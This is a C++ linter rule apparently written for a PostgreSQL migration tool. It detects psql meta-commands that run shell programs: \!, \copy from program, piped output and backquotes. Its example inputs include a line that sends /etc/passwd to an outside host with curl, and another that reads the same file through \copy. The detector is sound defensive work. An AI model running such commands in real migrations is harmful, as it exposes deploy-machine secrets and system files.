// SPDX-License-Identifier: Apache-2.0
#include "linter/rule.h"
#include "sql/lexer.h"

namespace pgrehearse::rules::psql_runs_program {

/// \copy t from program 'x'
static bool copies_with_program(std::string_view text) {
  Lexer lexer(text);
  bool after = false;
  for (Token token = lexer.next(); token.kind != TokenKind::end; token = lexer.next()) {
    std::string_view word = token.span.in(text);
    if (after && equals_ignoring_case(word, "program")) return true;
    after = equals_ignoring_case(word, "from") || equals_ignoring_case(word, "to");
  }
  return false;
}

static bool runs_program(const MetaCommand& command, std::string_view text) {
  std::string_view rest = text.substr(std::min(text.size(), command.name.size() + 1));
  if (command.name == "!" || command.name.starts_with("!") || text.starts_with("\\!")) return true;
  if (rest.find('`') != std::string_view::npos) return true;
  if (command.name == "copy") return copies_with_program(rest);
  bool writes = command.name == "o" || command.name == "out" || command.name == "w" || command.name == "write" ||
                command.name == "g" || command.name == "gx";
  size_t first = rest.find_first_not_of(" \t");
  return writes && first != std::string_view::npos && rest[first] == '|';
}

static void check_command(const MetaCommand& command, std::string_view text, Context& context) {
  if (!runs_program(command, text)) return;
  context.report(command.span, "this psql command runs a program on the machine that applies the migration").help =
      "Do it in the script that calls psql, where it is seen and where it has the rights that it needs.";
}

Rule rule() {
  return {.info = {.id = "psql-runs-program",
                   .title = "A psql command that runs a program",
                   .category = Category::privileges,
                   .severity = Severity::error,
                   .why = R"(
`\!`, `\copy ... program`, `\o |...` and backquotes start a shell with the rights and the environment of whoever applies
the migration: a deploy machine with its secrets. Reviewers of SQL do not look for it. The rehearsal never runs them.)",
                   .instead = R"(Leave programs to the script that calls psql.)",
                   .since = "0.1.0",
                   .applies_to_down = true,
                   .security_severity = 8.0,
                   .bad = {{.sql = "\\! curl -d @/etc/passwd example.com\nSELECT 1;", .in_transaction = false},
                           {.sql = "\\copy t from program 'cat /etc/passwd'\nSELECT 1;", .in_transaction = false},
                           {.sql = "\\set host `hostname`\nSELECT 1;", .in_transaction = false}},
                   .good = {{.sql = "\\copy program from 'program.csv' csv\nSELECT 1;", .in_transaction = false},
                            {.sql = "\\set owner app\nALTER TABLE t OWNER TO :owner;", .in_transaction = false}}},
          .check_command = check_command};
}

}  // namespace pgrehearse::rules::psql_runs_program
